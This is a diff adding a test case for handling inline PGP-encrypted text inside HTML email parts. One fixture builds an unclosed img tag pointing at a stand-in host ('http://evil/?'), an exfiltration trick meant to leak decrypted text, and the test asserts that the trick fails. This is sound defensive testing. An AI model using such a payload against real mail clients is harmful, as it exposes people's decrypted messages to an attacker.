@@ -241,6 +241,22 @@ def multiparts(inline, tap):
         variant, message, _ = inline.explain(multipart("mixed", text(b"\n"), text(inline.sealed()), key))
         assert layers(variant) == [OPENED] and b"Geheim" in parts(message)[1][1], variant
         assert b"BEGIN PGP PUBLIC KEY" in parts(message)[2][1]
+    with tap.case("in HTML: opened if the markup holds nothing else; the HTML form of a text goes with it"):
+        lines = inline.sealed().decode().split("\n")
+        markup = "".join(f"<div>{line.replace('+', '&#43;').replace('=', '&#x3d;') or '&nbsp;'}</div><br>\r\n" for line in lines)
+        html = ("Content-Type: text/html\r\n\r\n<html><style>p { a: b }</style><!-- x --><body>" + markup + "</body>\r\n").encode()
+        plain = text("\n".join(lines).encode())
+        for entity in (html, multipart("mixed", html), multipart("alternative", plain, html)):
+            variant, message, _ = inline.explain(entity)
+            assert layers(variant) == [OPENED] and not variant["warnings"], variant
+            assert parts(message) == [(None, b"Geheim\r\n")] and message.get_content_type() == "text/plain"
+        entity = html.replace(b"<body>", b"<body>Hello")
+        variant, _, raw = inline.explain(entity)
+        assert not variant["layers"] and entity in raw, variant
+        _, _, raw = inline.explain(html.replace(b"<body>", b'<body><img src="http://evil/?'))
+        assert b"Geheim" in raw and b"evil" not in raw, "what surrounds it is not delivered"
+        variant, _, raw = inline.explain(multipart("alternative", text(inline.sealed()), html.replace(b"<body>", b"<body>Hi")))
+        assert layers(variant) == [FOREIGN] and b"Geheim" not in raw, variant
     with tap.case("inside a clear signature: what is signed is not made anew"):
         entity = inline.work.pgp_signed(multipart("mixed", text(b"hi\n"), text(inline.sealed())).replace(b'"b"', b'"c"').replace(b"--b", b"--c"))
         variant, _, raw = inline.explain(entity)
